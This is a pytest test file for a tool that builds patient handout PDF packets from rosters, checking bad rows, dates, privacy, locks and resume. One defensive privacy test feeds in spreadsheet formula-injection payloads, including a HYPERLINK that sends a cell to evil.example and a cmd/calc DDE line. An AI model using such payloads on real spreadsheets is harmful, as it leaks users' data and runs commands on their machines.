"""A coordinator's bad exports and bad days: every row gets its own outcome, nothing leaks.

Each test builds a roster as a scheduling system (or a clumsy spreadsheet) writes it,
runs `handoutgen packets`, and reads what a coordinator would read: the exit code,
the terminal, the manifest, and the covers.
"""

from __future__ import annotations

import csv
import errno
import fcntl
import hashlib
import json
import os
import stat
from pathlib import Path

import pikepdf
import pytest

from conftest import pdf_pages_text

RETRO, NEPHRO = "retrograde-pyelography", "nephrostomy-ureteral-stent"
HEADER = "patient_id,patient_name,language,handouts,appointment,arrive_minutes_before,location,prep\n"


def roster(path: Path, body: str, header: str = HEADER) -> Path:
    path.write_text(header + body, encoding="utf-8")
    return path


def manifest(out: Path) -> list[dict]:
    return json.loads((out / "manifest.json").read_text())["rows"]


def outcomes(out: Path) -> dict[int, tuple[str, str]]:
    return {r["row"]: (r["status"], r["error"]) for r in manifest(out)}


def cover_text(path: Path) -> str:
    return " ".join(pdf_pages_text(path)[0].split())


# --- a quote that never closes ---------------------------------------------------------------

def test_unclosed_quote_fails_its_row_and_never_prints_other_patients(cli, workspace, tmp_path):
    body = (
        f'P1,Ann Alpha,en,{RETRO},2026-12-01T09:30,30,"Room 1 (east wing,,\n'
        f"P2,Bob Bravo,en,{RETRO},2026-12-01T10:00,30,Room 2,\n"
        f'P3,Cat Charlie,en,{RETRO},2026-12-01T10:30,30,Room 3,"Nothing to eat\nafter midnight."\n'
    )
    out = tmp_path / "out"
    result = cli("packets", roster(tmp_path / "r.csv", body), "--out", out, "-j", "1", "-w", workspace)
    assert result.exit_code == 1
    status = outcomes(out)
    assert status[1][0] == "failed" and "quoted cell opened in this row is not closed before line 3" in status[1][1]
    assert status[2][0] == "ok" and status[3][0] == "ok"  # the rows after it are still made
    assert "1 of 3 packet(s)" not in result.stderr and "2 of 3 packet(s) written" in result.stderr
    bob, cat = cover_text(out / "P2.pdf"), cover_text(out / "P3.pdf")
    assert "Ann" not in bob + cat and "Cat Charlie" not in bob and "Bob Bravo" not in cat
    assert "Nothing to eat after midnight." in cat  # a real multi-line cell still works
    assert not (out / "P1.pdf").exists()


def test_quote_open_to_the_end_of_the_file_fails_that_row(cli, workspace, tmp_path):
    body = f"P1,Ann Alpha,en,{RETRO},,,Room 1,\nP2,Bob Bravo,en,{RETRO},,,\"Room 2,\n"
    out = tmp_path / "out"
    assert cli("packets", roster(tmp_path / "r.csv", body), "--out", out, "-j", "1", "-w", workspace).exit_code == 1
    status = outcomes(out)
    assert status[1][0] == "ok"
    assert status[2][0] == "failed" and "before the end of the file" in status[2][1]


# --- dates and numbers -----------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("46357.39", "a number, not a date"),  # a spreadsheet serial
    ("20261201", "a number, not a date"),
    ("930", "a number, not a date"),
    ("2026-02-30T10:00", "not a real date or time"),
    ("2026-13-01", "not a real date or time"),
    ("0001-01-01T00:10", "outside 2000–2199"),
    ("12/03/2026 10:00 AM", "--date-format"),
    ("next tuesday", "not an ISO date-time"),
])
def test_appointments_that_are_not_iso_dates_fail_their_row(cli, workspace, tmp_path, value, expected):
    body = f"P1,Ann Alpha,en,{RETRO},{value},15,,\nP2,Bob Bravo,en,{RETRO},2026-12-01T10:00,,,\n"
    out = tmp_path / "out"
    result = cli("packets", roster(tmp_path / "r.csv", body), "--out", out, "-j", "1", "-w", workspace)
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    status = outcomes(out)
    assert status[1][0] == "failed" and expected in status[1][1] and "field 'appointment'" in status[1][1]
    assert value not in result.stderr  # the rejected value is never echoed
    assert status[2][0] == "ok"


def test_date_format_reads_an_exports_own_layout(cli, workspace, tmp_path):
    body = f"P1,Ann Alpha,en,{RETRO},12/03/2026 10:00 AM,30,,\n"
    out = tmp_path / "out"
    result = cli("packets", roster(tmp_path / "r.csv", body), "--out", out, "-j", "1", "-w", workspace,
                 "--date-format", "%d.%m.%Y %H:%M", "--date-format", "%m/%d/%Y %I:%M %p")
    assert result.exit_code == 0, result.stderr
    cover = cover_text(out / "P1.pdf")
    assert "Thursday, December 3, 2026" in cover and "10:00" in cover and "9:30" in cover
    bad = cli("packets", tmp_path / "r.csv", "--out", out, "-w", workspace, "--date-format", "%Q")
    assert bad.exit_code == 2 and "--date-format '%Q'" in bad.stderr


def test_arrival_before_midnight_gives_its_date(cli, workspace, tmp_path):
    body = f"P1,Ann Alpha,en,{RETRO},2026-12-02T00:10,30,,\n"
    out = tmp_path / "out"
    assert cli("packets", roster(tmp_path / "r.csv", body), "--out", out, "-j", "1", "-w", workspace).exit_code == 0
    cover = cover_text(out / "P1.pdf")
    assert "Tuesday, December 1, 2026" in cover and "11:40" in cover  # the day before the appointment


# --- privacy: nothing echoed, nothing executable, nothing guessable --------------------------

def test_rejected_values_are_never_echoed_and_manifest_cells_cannot_run(cli, workspace, tmp_path):
    rows = [
        ["Jane Doe", "P-shifted", "en", RETRO, "", "", "", ""],  # a shifted export: name in the id column
        ['=HYPERLINK("http://evil.example/?"&A1)', "Eve", "en", RETRO, "", "", "", ""],
        ["+cmd|' /C calc'!A0", "Mal", "en", RETRO, "", "", "", ""],
        ["\x1b[31mP4", "Esc Ape", "en", RETRO, "", "", "", ""],
        ["P5", "Ok Person", "en", RETRO, "", "", "", ""],
    ]
    path = tmp_path / "r.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(HEADER.strip().split(","))
        writer.writerows(rows)
    out = tmp_path / "out"
    result = cli("packets", path, "--out", out, "-j", "1", "-w", workspace)
    assert result.exit_code == 1
    shown = result.stdout + result.stderr + (out / "manifest.csv").read_text() + (out / "manifest.json").read_text()
    for secret in ("Jane", "HYPERLINK", "calc", "evil", "\x1b"):
        assert secret not in shown, secret
    assert "row 1 (no valid patient_id): field 'patient_id'" in result.stderr
    with (out / "manifest.csv").open(newline="", encoding="utf-8") as handle:
        for record in csv.reader(handle):
            assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in record), record


def test_manifest_cells_that_look_like_formulas_are_defused():
    from handoutgen.packets.manifest import csv_cell

    assert csv_cell("=1+1") == "'=1+1" and csv_cell("-2") == "'-2" and csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell("P-1") == "P-1" and csv_cell(3) == "3" and csv_cell(None) == ""


def test_input_hash_is_keyed_per_folder(cli, workspace, tmp_path):
    body = f"P1,Ann Alpha,en,{RETRO},2026-12-01T09:30,30,,\n"
    path = roster(tmp_path / "r.csv", body)
    out = tmp_path / "out"
    assert cli("packets", path, "--out", out, "-j", "1", "-w", workspace).exit_code == 0
    key = out / ".handoutgen-key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and len(bytes.fromhex(key.read_text().strip())) == 32
    first = manifest(out)[0]["input_hmac"]
    document = json.loads((out / "manifest.json").read_text())
    assert document["input_hmac"]["algorithm"] == "HMAC-SHA256" and document["input_hmac"]["covers"]
    # The old plain hash of the row cannot be rebuilt from a guessed name any more.
    assert first != hashlib.sha256(b"Ann Alpha").hexdigest()
    key.unlink()  # a new key: the same inputs hash differently, so resume redoes the packet
    before = (out / "P1.pdf").stat().st_mtime_ns
    assert cli("packets", path, "--out", out, "--resume", "-j", "1", "-w", workspace).exit_code == 0
    assert manifest(out)[0]["input_hmac"] != first
    assert (out / "P1.pdf").stat().st_mtime_ns != before


# --- ids, columns and keys ------------------------------------------------------------------

def test_ids_that_collide_on_disk_or_windows_are_refused(cli, workspace, tmp_path):
    body = "".join(f"{pid},Some One,en,{RETRO},,,,\n" for pid in ("P1", "p1", "CON", "nul.txt", "Aux", "P9"))
    out = tmp_path / "out"
    assert cli("packets", roster(tmp_path / "r.csv", body), "--out", out, "-j", "1", "-w", workspace).exit_code == 1
    status = outcomes(out)
    assert "also used in row(s) 2" in status[1][1] and "also used in row(s) 1" in status[2][1]
    for row in (3, 4, 5):
        assert status[row][0] == "failed" and "Windows reserves" in status[row][1]
    assert status[6][0] == "ok"
    assert sorted(p.name for p in out.glob("*.pdf")) == ["P9.pdf"]


def test_duplicate_headers_are_a_file_error(cli, workspace, tmp_path):
    path = roster(tmp_path / "r.csv", f"P1,Ann,en,{RETRO},Bob\n", header="patient_id,patient_name,language,handouts,Patient Name\n")
    result = cli("packets", path, "--out", tmp_path / "out", "-w", workspace)
    assert result.exit_code == 1 and "more than one column means patient_name" in result.stderr
    assert "r.csv:1:" in result.stderr


def test_json_rosters_numeric_ids_duplicate_keys_and_broken_text(cli, workspace, tmp_path):
    text = (
        '[{"patient_id": 1001, "patient_name": "Num Ber", "handouts": ["%s"]},\n'
        ' {"patient_id": "P2", "patient_name": "Dup One", "patient_name": "Dup Two", "handouts": ["%s"]},\n'
        ' {"patient_id": "P3", "patient_name": "Sur\\ud800rogate", "handouts": ["%s"]},\n'
        ' {"patient_id": "P4", "patient_name": "%s", "handouts": ["%s"]},\n'
        ' {"patient_id": "P5", "language": "Spanish", "handouts": ["%s"]},\n'
        ' {"patient_id": "P6", "language": "EN-us", "handouts": ["%s"]}]\n'
    ) % (RETRO, RETRO, RETRO, "x" * 1_000, RETRO, RETRO, RETRO)
    path = tmp_path / "roster.json"
    path.write_text(text)
    out = tmp_path / "out"
    result = cli("packets", path, "--out", out, "-j", "1", "-w", workspace)
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    status = outcomes(out)
    assert status[1][0] == "ok" and (out / "1001.pdf").is_file()
    assert status[2][0] == "failed" and "field 'patient_name': key given twice" in status[2][1]
    assert status[3][0] == "failed" and "control or invalid characters" in status[3][1]
    assert status[4][0] == "failed" and "longer than 200 characters" in status[4][1]
    assert status[5][0] == "ok" and manifest(out)[4]["handouts"] == [f"{RETRO}.es"]
    assert status[6][0] == "ok" and manifest(out)[5]["handouts"] == [f"{RETRO}.en"]  # en-US reads en
    assert "Dup" not in result.stderr and "xxxx" not in (out / "manifest.json").read_text()


def test_language_names_from_exports():
    from handoutgen.i18n.languages import normalize_language

    assert [normalize_language(v) for v in ("EN", "Spanish", "español", "ESPANOL", "zh-hans", "pt_br", "العربية")] == \
        ["en", "es", "es", "es", "zh-Hans", "pt-BR", "ar"]
    assert normalize_language("Klingon") == "klingon"  # not a tag: the row's language check refuses it


# --- the output folder ----------------------------------------------------------------------

def test_a_second_run_into_the_same_folder_is_refused(cli, workspace, tmp_path):
    path = roster(tmp_path / "r.csv", f"P1,Ann,en,{RETRO},,,,\n")
    out = tmp_path / "out"
    out.mkdir()
    with (out / ".handoutgen.lock").open("w") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        held.write("pid 4242 on clinic-pc")
        held.flush()
        result = cli("packets", path, "--out", out, "-w", workspace)
    assert result.exit_code == 2 and "another handoutgen run (pid 4242 on clinic-pc)" in result.stderr
    assert not (out / "P1.pdf").exists() and not (out / "manifest.json").exists()


def test_output_path_that_is_a_file_or_holds_the_combined_file(cli, workspace, tmp_path):
    path = roster(tmp_path / "r.csv", f"P1,Ann,en,{RETRO},,,,\n")
    blocker = tmp_path / "out"
    blocker.write_text("not a folder")
    result = cli("packets", path, "--out", blocker, "-w", workspace)
    assert result.exit_code == 1 and "cannot write: a file is in the way" in result.stderr
    assert blocker.read_text() == "not a folder"

    out = tmp_path / "packets"
    assert cli("packets", path, "--out", out, "-j", "1", "-w", workspace).exit_code == 0
    packet = (out / "P1.pdf").read_bytes()
    for target in (out / "P1.pdf", out / "print.pdf", out):
        refused = cli("packets", path, "--out", out, "--combined", target, "-w", workspace)
        assert refused.exit_code == 2 and "--combined" in refused.stderr
    assert (out / "P1.pdf").read_bytes() == packet


def test_full_disk_stops_with_one_message_and_a_true_manifest(cli, workspace, tmp_path, monkeypatch):
    import handoutgen.packets.run as packets

    body = "".join(f"P{i},Some One,en,{RETRO},,,,\n" for i in range(1, 5))
    real_write = packets.write_atomic
    written = []

    def disk_fills_up(path, data):
        if path.suffix == ".pdf" and path.parent.name == "out":
            if written:
                raise OSError(errno.ENOSPC, "No space left on device")
            written.append(path)
        real_write(path, data)

    monkeypatch.setattr(packets, "write_atomic", disk_fills_up)
    out = tmp_path / "out"
    result = cli("packets", roster(tmp_path / "r.csv", body), "--out", out, "-j", "1", "-w", workspace)
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    assert result.stderr.count("No space left on device") == 1
    assert [(r["patient_id"], r["status"]) for r in manifest(out)] == \
        [("P1", "ok"), ("P2", "not started"), ("P3", "not started"), ("P4", "not started")]
    assert sorted(p.name for p in out.glob("*.pdf")) == ["P1.pdf"]


def test_interrupted_run_leaves_a_manifest_of_what_exists(cli, workspace, tmp_path, monkeypatch):
    import handoutgen.packets.run as packets

    old = tmp_path / "out"
    body = "".join(f"P{i},Some One,en,{RETRO},,,,\n" for i in range(1, 4))
    path = roster(tmp_path / "r.csv", body)
    assert cli("packets", path, "--out", old, "-j", "1", "-w", workspace).exit_code == 0
    for packet in old.glob("*.pdf"):
        packet.unlink()  # a new run into a folder whose old manifest lists packets
    real_make = packets.PacketWorker.make
    calls = []

    def interrupted(self, task):
        calls.append(task)
        if len(calls) == 2:
            raise KeyboardInterrupt
        return real_make(self, task)

    monkeypatch.setattr(packets.PacketWorker, "make", interrupted)
    assert cli("packets", path, "--out", old, "-j", "1", "-w", workspace).exit_code != 0  # Ctrl-C: "Aborted!"
    assert [(r["patient_id"], r["status"]) for r in manifest(old)] == \
        [("P1", "ok"), ("P2", "not started"), ("P3", "not started")]
    assert sorted(p.name for p in old.glob("*.pdf")) == ["P1.pdf"]
    assert not list(old.glob(".handoutgen-tmp-*"))  # the batch's scratch folder is gone


def test_folder_is_made_private_and_only_our_temp_files_are_removed(cli, workspace, tmp_path):
    out = tmp_path / "out"
    out.mkdir(mode=0o777)
    os.chmod(out, 0o777)
    (out / "notes.tmp").write_text("mine")
    (out / ".draft.tmp").write_text("mine too")
    (out / ".handoutgen-tmp-P1.pdf.abc.tmp").write_bytes(b"half a packet")
    path = roster(tmp_path / "r.csv", f"P1,Ann,en,{RETRO},,,,\n")
    assert cli("packets", path, "--out", out, "-j", "1", "-w", workspace).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    assert (out / "notes.tmp").read_text() == "mine" and (out / ".draft.tmp").read_text() == "mine too"
    assert not (out / ".handoutgen-tmp-P1.pdf.abc.tmp").exists()


def test_resume_rebuilds_a_packet_that_was_changed_on_disk(cli, workspace, tmp_path):
    body = f"P1,Ann,en,{RETRO};{NEPHRO},,,,\nP2,Bob,en,{RETRO},,,,\n"
    path = roster(tmp_path / "r.csv", body)
    out = tmp_path / "out"
    assert cli("packets", path, "--out", out, "-j", "1", "-w", workspace).exit_code == 0
    original = (out / "P1.pdf").read_bytes()
    with pikepdf.open(out / "P1.pdf", allow_overwriting_input=True) as pdf:
        del pdf.pages[0]  # someone removed the cover page; the file keeps its metadata
        pdf.save(out / "P1.pdf")
    untouched = (out / "P2.pdf").stat().st_mtime_ns
    assert cli("packets", path, "--out", out, "--resume", "-j", "1", "-w", workspace).exit_code == 0
    assert (out / "P1.pdf").read_bytes() == original
    assert (out / "P2.pdf").stat().st_mtime_ns == untouched


def hashed_files(monkeypatch) -> list[str]:
    """Names of the packet files --resume reads to hash, in order."""
    from handoutgen.packets import run

    hashed: list[str] = []
    real_file_sha256 = run.file_sha256

    def counting(path: Path) -> str:
        hashed.append(path.name)
        return real_file_sha256(path)

    monkeypatch.setattr(run, "file_sha256", counting)
    return hashed


def test_resume_rebuilds_a_packet_of_another_size_without_hashing_it(cli, workspace, tmp_path, monkeypatch):
    body = f"P1,Ann,en,{RETRO},,,,\nP2,Bob,en,{RETRO},,,,\nP3,Cy,en,{RETRO},,,,\nP4,Di,en,{RETRO},,,,\n"
    path = roster(tmp_path / "r.csv", body)
    out = tmp_path / "out"
    assert cli("packets", path, "--out", out, "-j", "1", "-w", workspace).exit_code == 0
    originals = {p.name: p.read_bytes() for p in out.glob("*.pdf")}
    (out / "P1.pdf").write_bytes(originals["P1.pdf"][:-100])  # a copy cut short
    (out / "P2.pdf").write_bytes(originals["P2.pdf"] + b"%% appended\n")  # still opens as a PDF
    flipped = bytearray(originals["P3.pdf"])
    flipped[len(flipped) // 2] ^= 0xFF  # same size: only the hash can tell
    (out / "P3.pdf").write_bytes(bytes(flipped))
    untouched = (out / "P4.pdf").stat().st_mtime_ns

    hashed = hashed_files(monkeypatch)
    assert cli("packets", path, "--out", out, "--resume", "-j", "1", "-w", workspace).exit_code == 0
    assert hashed == ["P3.pdf", "P4.pdf"]  # P1 and P2 told apart by their size alone
    for name, data in originals.items():
        assert (out / name).read_bytes() == data, name
    assert (out / "P4.pdf").stat().st_mtime_ns == untouched
    assert [(r["status"], r["bytes"]) for r in manifest(out)] == [("ok", len(originals[f"P{n}.pdf"])) for n in (1, 2, 3, 4)]


def test_resume_keeps_packets_listed_by_a_manifest_without_sizes(cli, workspace, tmp_path, monkeypatch):
    """A folder made by a handoutgen from before the bytes column resumes on the sha256 alone."""
    path = roster(tmp_path / "r.csv", f"P1,Ann,en,{RETRO},,,,\nP2,Bob,en,{RETRO};{NEPHRO},,,,\n")
    out = tmp_path / "out"
    assert cli("packets", path, "--out", out, "-j", "1", "-w", workspace).exit_code == 0
    document = json.loads((out / "manifest.json").read_text())
    for record in document["rows"]:
        del record["bytes"]
    (out / "manifest.json").write_text(json.dumps(document))
    with (out / "manifest.csv").open(newline="", encoding="utf-8") as handle:
        old_csv = [{k: v for k, v in r.items() if k != "bytes"} for r in csv.DictReader(handle)]
    with (out / "manifest.csv").open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(old_csv[0]))
        writer.writeheader()
        writer.writerows(old_csv)
    before = {p.name: p.stat().st_mtime_ns for p in out.glob("*.pdf")}

    hashed = hashed_files(monkeypatch)
    assert cli("packets", path, "--out", out, "--resume", "-j", "1", "-w", workspace).exit_code == 0
    assert hashed == ["P1.pdf", "P2.pdf"]  # each checked by its hash…
    assert {p.name: p.stat().st_mtime_ns for p in out.glob("*.pdf")} == before  # …and kept, not rewritten
    # The new manifest has the sizes again, from the files that were kept.
    assert [r["bytes"] for r in manifest(out)] == [(out / f"P{n}.pdf").stat().st_size for n in (1, 2)]


def test_resume_redoes_packets_when_the_fonts_change(cli, workspace, tmp_path):
    path = roster(tmp_path / "r.csv", f"P1,Ann,en,{RETRO},,,,\n")
    out = tmp_path / "out"
    assert cli("packets", path, "--out", out, "-j", "1", "-w", workspace).exit_code == 0
    before = manifest(out)[0]["input_hmac"]
    fonts = workspace / "styles" / "fonts" / "fonts.css"
    fonts.write_text(fonts.read_text() + "\n/* a font update */\n")
    assert cli("packets", path, "--out", out, "--resume", "-j", "1", "-w", workspace).exit_code == 0
    assert manifest(out)[0]["input_hmac"] != before


def test_yaml_roster_bad_date_fails_only_its_row(cli, workspace, tmp_path):
    path = tmp_path / "roster.yaml"
    path.write_text(
        f"- {{patient_id: P1, handouts: [{RETRO}], appointment: 2026-02-30}}\n"
        f"- {{patient_id: P2, handouts: [{RETRO}], appointment: 2026-12-01 09:30, arrive_minutes_before: 20}}\n"
        f"- {{patient_id: 3003, handouts: [{RETRO}]}}\n"
    )
    out = tmp_path / "out"
    result = cli("packets", path, "--out", out, "-j", "1", "-w", workspace)
    assert result.exit_code == 1 and "Traceback" not in result.stderr
    status = outcomes(out)
    assert status[1][0] == "failed" and "not a real date" in status[1][1]
    assert status[2][0] == "ok" and "9:10" in cover_text(out / "P2.pdf")
    assert status[3][0] == "ok" and (out / "3003.pdf").is_file()


@pytest.mark.parametrize("encoding", ["punycode", "idna", "rot13", "base64", "unicode_escape", "no-such-codec"])
def test_an_encoding_no_file_is_saved_in_is_a_usage_error(cli, workspace, tmp_path, encoding):
    # Python knows codecs that are not file encodings; some fail with errors of their own kind.
    path = roster(tmp_path / "roster.csv", "P1,Test Patient,en,retrograde-pyelography,2026-12-01T09:30\n")
    result = cli("packets", path, "--out", tmp_path / "out", "--encoding", encoding, "-w", workspace)
    assert result.exit_code == 2, result.output
    assert f"unknown encoding '{encoding}'" in result.stderr and "internal error" not in result.stderr
    assert not (tmp_path / "out").exists()
